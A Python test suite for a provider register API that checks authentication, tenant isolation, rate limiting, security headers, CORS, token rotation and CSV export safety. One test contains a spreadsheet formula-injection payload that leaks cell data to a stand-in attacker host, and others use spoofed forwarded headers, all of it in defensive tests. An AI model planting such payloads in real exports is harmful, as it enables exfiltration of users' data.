"""No one let in: every provider-scoped operation against every wrong credential, tokens, headers, CORS."""

from __future__ import annotations

import csv
import io
import logging
import re
import uuid
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from litestar.testing import TestClient
from sqlalchemy import text

from harness import ServerProcess
from ila_register.app import create_app
from ila_register.wiring import Services
from support import Api, FakeClock, example

OTHER_KBO = "0202.239.951"
UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


def _operations(client: TestClient) -> list[tuple[str, str]]:
    """Every /api/v1 operation that reads or changes a provider's own data."""
    scoped = []
    for route in client.app.routes:
        path = route.path
        # public: the CSV template, and what a citizen pays for a published offer
        if not path.startswith("/api/v1/") or path.endswith(("template.csv", "/cost")):
            continue
        if any(part in path for part in ("{offer_id", "{provider_id", "{job_id")) or path in {
            "/api/v1/offers",
            "/api/v1/imports",
        }:
            for method in sorted(getattr(route, "methods", set()) - {"HEAD", "OPTIONS"}):
                scoped.append((method, path))
    return scoped


def _request(
    client: TestClient, method: str, path: str, headers: dict[str, str], ids: dict[str, str]
) -> tuple[int, dict[str, Any]]:
    url = path
    for name, value in ids.items():
        url = url.replace(f"{{{name}:uuid}}", value)
    url = url.replace("{label:str}", "iso-29993")  # the label the owner was registered with
    body: Any = None
    if method in {"PUT", "POST"}:
        if path.endswith("/status"):
            body = {"status": "suspended", "reason": "audit"}
        elif path.endswith("/decisions"):
            body = {"scheme": "be-vl-opleidingscheques", "decision": "eligible"}
        elif path.endswith("/token"):
            body = {}
        elif path.endswith("/quality-labels/{label:str}/decision"):
            body = {"decision": "confirmed"}
        elif path.endswith("/quality-labels"):
            body = {"quality_labels": example("provider.json")["quality_labels"]}
        elif "{provider_id" in path:
            body = example("provider.json")
        else:
            body = example("offer-training.json")
    if path == "/api/v1/imports" and method == "POST":
        answer = client.post(
            url, content=msgspec.json.encode(body), headers=headers | {"Content-Type": "application/x-ndjson"}
        )
    else:
        answer = client.request(method, url, json=body, headers=headers | {"If-Match": "*"})
    payload = answer.json() if answer.headers.get("content-type", "").endswith("json") else {}
    return answer.status_code, payload if isinstance(payload, dict) else {"items": payload}


def _anonymised(payload: dict[str, Any]) -> dict[str, Any]:
    """The answer with identifiers blanked, to compare an answer about X with one about nothing."""
    return {k: UUID.sub("<id>", v) if isinstance(v, str) else v for k, v in payload.items()}


@pytest.fixture
def world(api: Api, runtime: Services, clock: FakeClock) -> dict[str, Any]:
    owner_id, owner = api.register_provider()
    _stranger_id, stranger = api.register_provider(kbo_number=OTHER_KBO)
    offer = api.submit(owner)
    job = api.client.post(
        "/api/v1/imports",
        content=msgspec.json.encode(example("offer-guidance.json")),
        headers=api.auth(owner) | {"Content-Type": "application/x-ndjson"},
    ).json()
    revoked = runtime.tokens.issue("provider", provider_id=uuid.UUID(owner_id))
    runtime.tokens.revoke(revoked.id)
    expired = runtime.tokens.issue(
        "provider", provider_id=uuid.UUID(owner_id), expires_at=clock() + timedelta(minutes=1)
    )
    clock.advance(minutes=2)
    return {
        "ids": {"offer_id": offer["id"], "provider_id": owner_id, "job_id": job["id"]},
        "missing": {"offer_id": str(uuid.uuid4()), "provider_id": str(uuid.uuid4()), "job_id": str(uuid.uuid4())},
        "owner": owner,
        "credentials": {
            "no token": {},
            "revoked token": Api.auth(revoked.token),
            "expired token": Api.auth(expired.token),
            "malformed token": Api.auth("ila_" + "x" * 43),
            "another provider": Api.auth(stranger),
            "reviewer": Api.auth(runtime.tokens.issue("reviewer").token),
        },
        "offer_version": offer["version"],
    }


def test_every_provider_scoped_operation_refuses_every_wrong_credential(
    api: Api, runtime: Services, world: dict[str, Any]
) -> None:
    runtime.auth_limiter.limit = 10_000  # this walk fails on purpose, many times
    operations = _operations(api.client)
    assert len(operations) >= 12, operations
    for method, path in operations:
        for who, headers in world["credentials"].items():
            status, body = _request(api.client, method, path, headers, world["ids"])
            where = (method, path, who, status, body.get("detail"))
            if who in {"no token", "revoked token", "expired token", "malformed token"}:
                assert status == 401, where
                assert body["type"] == "/problems/not-authenticated", where
                continue
            if who == "reviewer":
                # reviewers read offers and providers and decide on offers and quality labels; imports are
                # the provider's business (the owner's label was confirmed at registration: 409, not 403)
                reviewer_may = (
                    (method == "GET" and "/imports" not in path)
                    or path.endswith("/decisions")
                    or "/quality-labels" in path
                )
                if path.endswith("/decision"):
                    assert status == 409, where
                    continue
                assert status < 300 if reviewer_may else status == 403, where
                continue
            # another provider: the answer about the owner's data equals the answer about nothing
            missing_status, missing_body = _request(api.client, method, path, headers, world["missing"])
            if "{" in path:
                assert status in {403, 404}, where
                assert (status, _anonymised(body)) == (missing_status, _anonymised(missing_body)), where
            elif method == "GET":
                listed = body.get("items", [])
                assert all(item.get("provider_id") != world["ids"]["provider_id"] for item in listed), where
    # and nothing of the owner's changed
    mine = api.client.get(f"/api/v1/offers/{world['ids']['offer_id']}", headers=api.auth(world["owner"])).json()
    assert (mine["version"], mine["status"]) == (world["offer_version"], "active")


def test_another_providers_reference_is_not_revealed(api: Api) -> None:
    _owner_id, owner = api.register_provider()
    _stranger_id, stranger = api.register_provider(kbo_number=OTHER_KBO)
    api.submit(owner)
    reference = example("offer-training.json")["reference"]

    listed = api.client.get("/api/v1/offers", params={"reference": reference}, headers=api.auth(stranger))
    assert listed.json()["items"] == []
    same_reference = api.client.post("/api/v1/offers", json=example("offer-training.json"), headers=api.auth(stranger))
    assert same_reference.status_code == 201  # references are each provider's own: no conflict, no hint


def test_tokens_are_random_hashed_and_never_logged(
    api: Api, runtime: Services, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    _provider_id, token = api.register_provider()
    issued = {runtime.tokens.issue("reviewer").token for _ in range(20)}
    for candidate in issued | {token}:
        secret = candidate.removeprefix("ila_")
        assert len(secret) >= 43  # 32 random bytes, url-safe base64: 256 bits
    assert len(issued) == 20
    api.client.get("/api/v1/offers", headers=api.auth(token))
    api.client.get("/api/v1/offers", headers=api.auth(token + "x"))
    with runtime.db.engine.connect() as connection:
        stored = " ".join(str(row) for row in connection.execute(text("SELECT * FROM api_tokens")))
    assert token not in stored
    assert all(t not in stored for t in issued)
    assert all(token not in record.getMessage() for record in caplog.records)


def test_failed_authentication_is_rate_limited_per_client(api: Api, runtime: Services, clock: FakeClock) -> None:
    _provider_id, token = api.register_provider()
    limit = runtime.settings.auth.failed_auth_limit
    for _ in range(limit):
        assert api.client.get("/api/v1/offers", headers=api.auth("ila_guess")).status_code == 401

    blocked = api.client.get("/api/v1/offers", headers=api.auth("ila_guess"))

    assert blocked.status_code == 429
    assert blocked.headers["content-type"] == "application/problem+json"
    assert 1 <= int(blocked.headers["retry-after"]) <= 60
    # the limit is on failures, never on a valid credential behind the same address
    assert api.client.get("/api/v1/offers", headers=api.auth(token)).status_code == 200
    assert api.client.get("/api/v1/offers", headers=api.admin).status_code == 200
    assert api.client.get("/api/v1/search", params={"q": "boekhouding"}).status_code == 200  # public stays open
    clock.advance(seconds=61)
    assert api.client.get("/api/v1/offers", headers=api.auth("ila_guess")).status_code == 401


def test_forwarded_for_from_an_untrusted_client_does_not_reset_the_limit(api: Api, runtime: Services) -> None:
    assert runtime.settings.http.trusted_proxies == ()  # the default: no proxy is trusted
    for _ in range(runtime.settings.auth.failed_auth_limit):
        api.client.get("/api/v1/offers", headers=api.auth("ila_guess"))

    spoofed = api.client.get("/api/v1/offers", headers=api.auth("ila_guess", **{"X-Forwarded-For": "203.0.113.9"}))

    assert spoofed.status_code == 429


def test_a_served_register_trusts_no_forwarded_header_by_default(tmp_path: Path) -> None:
    """Through the real server (uvicorn): a client on the same host cannot name another address."""
    env = {
        "ILA_DATABASE_URL": f"sqlite:///{tmp_path / 'register.sqlite3'}",
        "ILA_VAR_DIR": str(tmp_path / "var"),
        "ILA_FAILED_AUTH_LIMIT": "3",
    }
    server = ServerProcess(env, tmp_path / "server.log").start()
    try:
        with httpx.Client(base_url=server.url, timeout=10) as http:
            guess = {"Authorization": "Bearer ila_guess"}
            assert [http.get("/api/v1/offers", headers=guess).status_code for _ in range(3)] == [401] * 3
            spoofed = http.get("/api/v1/offers", headers=guess | {"X-Forwarded-For": "203.0.113.9"})
            assert spoofed.status_code == 429
    finally:
        server.stop()


def test_security_headers_on_every_kind_of_answer(api: Api) -> None:
    _provider_id, token = api.register_provider()
    answers = {
        "json": api.client.get("/api/v1/vocab"),
        "problem": api.client.get("/api/v1/offers"),
        "not found": api.client.get("/no/such/page"),
        "turtle": api.client.get("/elm/learning-opportunities", params={"format": "ttl"}),
        "authenticated": api.client.get("/api/v1/offers", headers=api.auth(token)),
        "api docs": api.client.get("/schema"),
    }
    for kind, answer in answers.items():
        assert answer.headers["x-content-type-options"] == "nosniff", kind
        assert answer.headers["x-frame-options"] == "DENY", kind
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"], kind
        assert answer.headers["referrer-policy"] == "strict-origin-when-cross-origin", kind
    assert answers["json"].headers["content-security-policy"].startswith("default-src 'none'")
    assert answers["authenticated"].headers["cache-control"] == "no-store"
    assert "no-store" not in answers["json"].headers.get("cache-control", "")


def test_cors_is_off_by_default(api: Api) -> None:
    answer = api.client.get("/api/v1/search", headers={"Origin": "https://evil.example"})
    assert "access-control-allow-origin" not in answer.headers
    preflight = api.client.options(
        "/api/v1/search", headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "GET"}
    )
    assert "access-control-allow-origin" not in preflight.headers


def test_cors_allows_the_configured_portal_to_read_only(runtime: Services) -> None:
    portal = "https://www.mijnloopbaan.be"
    settings = msgspec.structs.replace(
        runtime.settings, http=msgspec.structs.replace(runtime.settings.http, cors_origins=(portal,))
    )
    with TestClient(create_app(settings, services=runtime)) as client:
        allowed = client.get("/api/v1/search", headers={"Origin": portal})
        assert allowed.headers["access-control-allow-origin"] == portal
        preflight = client.options("/api/v1/search", headers={"Origin": portal, "Access-Control-Request-Method": "GET"})
        assert preflight.status_code in {200, 204}
        assert preflight.headers["access-control-allow-origin"] == portal
        other = client.get("/api/v1/search", headers={"Origin": "https://evil.example"})
        assert other.headers.get("access-control-allow-origin") != "https://evil.example"
        write = client.options(
            "/api/v1/offers",
            headers={
                "Origin": portal,
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization",
            },
        )
        assert "POST" not in write.headers.get("access-control-allow-methods", "")


# -- leaked provider tokens: found by id, revoked, rotated ---------------------------------------


def test_the_registration_answer_names_the_token_so_it_can_be_revoked(api: Api, runtime: Services) -> None:
    answer = api.client.post("/api/v1/providers", json=example("provider.json"), headers=api.admin)
    assert answer.status_code == 201
    body = answer.json()
    assert body["token"].startswith("ila_")
    assert UUID.fullmatch(body["token_id"])
    schema = api.client.get("/schema/openapi.json").json()["components"]["schemas"]
    created = next(s for name, s in schema.items() if name.endswith("ProviderCreated"))
    assert {"token", "token_id"} <= set(created["required"])

    runtime.tokens.revoke(uuid.UUID(body["token_id"]))
    assert api.client.get("/api/v1/offers", headers=api.auth(body["token"])).status_code == 401


def test_a_provider_rotates_its_own_token(api: Api) -> None:
    provider_id, old = api.register_provider()
    _stranger_id, stranger = api.register_provider(kbo_number=OTHER_KBO)
    refused = api.client.post(f"/api/v1/providers/{provider_id}/token", json={}, headers=api.auth(stranger))
    assert refused.status_code == 404

    rotated = api.client.post(f"/api/v1/providers/{provider_id}/token", json={"label": "ERP"}, headers=api.auth(old))

    assert rotated.status_code == 201, rotated.text
    assert rotated.headers["cache-control"] == "no-store"
    new = rotated.json()
    assert new["provider_id"] == provider_id
    assert UUID.fullmatch(new["token_id"])
    assert new["token"].startswith("ila_")
    assert new["token"] != old
    assert api.client.get("/api/v1/offers", headers=api.auth(old)).status_code == 401
    assert api.client.get("/api/v1/offers", headers=api.auth(new["token"])).status_code == 200
    again = api.client.post(f"/api/v1/providers/{provider_id}/token", json={}, headers=api.auth(old))
    assert again.status_code == 401  # the old token cannot mint another one
    assert api.client.get("/api/v1/offers", headers=api.auth(stranger)).status_code == 200


def test_an_administrator_rotates_every_token_of_a_provider(api: Api, runtime: Services) -> None:
    provider_id, first = api.register_provider()
    second = runtime.tokens.issue("provider", provider_id=uuid.UUID(provider_id)).token

    rotated = api.client.post(f"/api/v1/providers/{provider_id}/token", json={}, headers=api.admin)

    assert rotated.status_code == 201, rotated.text
    assert api.client.get("/api/v1/offers", headers=api.auth(first)).status_code == 401
    assert api.client.get("/api/v1/offers", headers=api.auth(second)).status_code == 401
    assert api.client.get("/api/v1/offers", headers=api.auth(rotated.json()["token"])).status_code == 200
    missing = api.client.post(f"/api/v1/providers/{uuid.uuid4()}/token", json={}, headers=api.admin)
    assert missing.status_code == 404
    past = api.client.post(
        f"/api/v1/providers/{provider_id}/token", json={"expires_at": "2020-01-01T00:00:00Z"}, headers=api.admin
    )
    assert past.status_code == 422
    assert past.json()["errors"][0]["pointer"] == "/expires_at"


def test_a_401_does_not_tell_revoked_expired_and_unknown_tokens_apart(
    api: Api, runtime: Services, clock: FakeClock, caplog: pytest.LogCaptureFixture
) -> None:
    provider_id, _token = api.register_provider()
    revoked = runtime.tokens.issue("provider", provider_id=uuid.UUID(provider_id))
    runtime.tokens.revoke(revoked.id)
    expired = runtime.tokens.issue("reviewer", expires_at=clock() + timedelta(minutes=1))
    clock.advance(minutes=2)
    caplog.set_level(logging.INFO, logger="ila_register")

    answers = {
        who: api.client.get("/api/v1/offers", headers=api.auth(token))
        for who, token in {"revoked": revoked.token, "expired": expired.token, "unknown": "ila_" + "x" * 43}.items()
    }

    assert {a.status_code for a in answers.values()} == {401}
    assert len({a.text for a in answers.values()}) == 1, {who: a.json()["detail"] for who, a in answers.items()}
    assert "invalid" in answers["revoked"].json()["detail"].lower()
    logged = " ".join(r.getMessage() for r in caplog.records)
    assert f"{revoked.id} was revoked" in logged  # the reason is for the operators' log
    assert f"{expired.id} expired" in logged
    assert revoked.token not in logged


# -- idempotency keys ----------------------------------------------------------------------------


def test_an_idempotency_key_never_replays_one_providers_answer_for_another(api: Api, runtime: Services) -> None:
    first_id, _first = api.register_provider()
    second_id, second = api.register_provider(kbo_number=OTHER_KBO)
    headers = api.admin | {"Idempotency-Key": "batch-1"}
    body = example("offer-training.json")

    created = api.client.post("/api/v1/offers", params={"provider_id": first_id}, json=body, headers=headers)
    other = api.client.post("/api/v1/offers", params={"provider_id": second_id}, json=body, headers=headers)

    assert created.status_code == 201
    assert created.json()["provider_id"] == first_id
    assert other.status_code == 422, other.json().get("provider_id")
    assert "idempotent-replayed" not in other.headers
    assert api.client.get("/api/v1/offers", headers=api.auth(second)).json()["items"] == []
    replay = api.client.post("/api/v1/offers", params={"provider_id": first_id}, json=body, headers=headers)
    assert replay.headers["idempotent-replayed"] == "true"
    assert replay.json() == created.json()


def test_idempotency_keys_belong_to_the_caller(api: Api, runtime: Services) -> None:
    provider_id, token = api.register_provider()
    body = example("offer-training.json")
    reviewer_admin = runtime.tokens.issue("admin").token
    key = {"Idempotency-Key": "same-key"}

    mine = api.client.post("/api/v1/offers", json=body, headers=api.auth(token, **key))
    by_admin = api.client.post(
        "/api/v1/offers",
        params={"provider_id": provider_id},
        json=body | {"reference": "ADM-1"},
        headers=api.admin | key,
    )
    by_other_admin = api.client.post(
        "/api/v1/offers",
        params={"provider_id": provider_id},
        json=body | {"reference": "ADM-1"},
        headers=api.auth(reviewer_admin, **key),
    )

    assert [a.status_code for a in (mine, by_admin, by_other_admin)] == [201, 201, 409]  # the same reference
    assert "idempotent-replayed" not in by_admin.headers
    assert "idempotent-replayed" not in by_other_admin.headers


# -- CSV downloads -------------------------------------------------------------------------------


def test_a_formula_in_a_rejection_reason_reaches_no_spreadsheet(api: Api, runtime: Services) -> None:
    _provider_id, token = api.register_provider()
    offer = api.submit(token)
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
    rejected = api.client.post(
        f"/api/v1/offers/{offer['id']}/decisions",
        json={"scheme": "be-vl-opleidingscheques", "decision": "rejected", "reason": formula},
        headers=api.admin | api.if_match(offer["id"]),
    )
    assert rejected.status_code == 200, rejected.text

    downloads = {
        "api": api.client.get(
            "/api/v1/stats", params={"format": "csv", "table": "rejection-reasons"}, headers=api.admin
        ),
        "dashboard": api.client.get("/dashboard/csv/rejection-reasons", headers=api.admin),
    }

    for where, answer in downloads.items():
        assert answer.status_code == 200, where
        rows = list(csv.reader(io.StringIO(answer.text)))
        assert rows[0] == ["reason", "scheme", "count"], where
        assert rows[1] == ["'" + formula, "be-vl-opleidingscheques", "1"], where


def test_listing_another_providers_offers_is_answered_as_a_provider_that_does_not_exist(api: Api) -> None:
    owner_id, owner = api.register_provider()
    stranger_id, stranger = api.register_provider(kbo_number=OTHER_KBO)
    api.submit(owner)

    foreign = api.client.get("/api/v1/offers", params={"provider_id": owner_id}, headers=api.auth(stranger))
    missing = api.client.get("/api/v1/offers", params={"provider_id": str(uuid.uuid4())}, headers=api.auth(stranger))
    own = api.client.get("/api/v1/offers", params={"provider_id": stranger_id}, headers=api.auth(stranger))

    assert foreign.status_code == 404, foreign.text
    assert foreign.headers["content-type"] == "application/problem+json"
    assert (foreign.status_code, _anonymised(foreign.json())) == (missing.status_code, _anonymised(missing.json()))
    assert (own.status_code, own.json()["items"]) == (200, [])
